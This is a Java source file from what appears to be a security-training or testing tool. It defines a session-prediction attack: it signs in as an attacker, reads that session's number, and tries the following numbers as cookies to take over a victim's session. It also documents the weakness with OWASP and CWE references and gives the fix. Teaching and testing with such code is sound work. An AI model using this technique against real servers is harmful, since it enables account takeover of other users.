package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Guesses the identifier of the session after the attacker's own. */
@AutoService(Attack.class)
public final class SessionPrediction implements Attack {
  private static final int TRIES = 5;

  @Override
  public AttackCard card() {
    return new AttackCard(
        "session-prediction",
        "Session identifiers that can be counted",
        AttackGroup.KEYS_AND_SESSIONS,
        "The attacker signs in with his own account, sees which number that session has, and sends the numbers after it as cookies.",
        "An account of his own, and somebody who signs in after him.",
        "The server takes the number of a session for its identifier.",
        "predictable-session",
        List.of("OWASP ASVS 4.0 V3.2.2", "CWE-340", "RFC 6265 §8.4"),
        "Draw session identifiers at random, with at least 128 bits, and take nothing else for one.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    Hop own =
        target.send(
            "Sign in with the own account. The answer says which number the session has.",
            BrowserSession.login(target, Loot.ATTACKER));
    String name = BrowserSession.cookie(own).split("=", 2)[0];
    long number = Events.body(own).path("sessionNumber").asLong();
    BrowserSession.signIn(target, AttackStep.VICTIM, "Alice signs in, as every morning.");
    for (long next = number + 1; next <= number + TRIES; next++) {
      String cookie = name + "=" + "%043d".formatted(next);
      if (BrowserSession.opensEvents(target, "Try the number " + next + ".", cookie)) {
        return target.end(true, Events.GAIN);
      }
    }
    return target.end(false, Events.GAIN);
  }
}
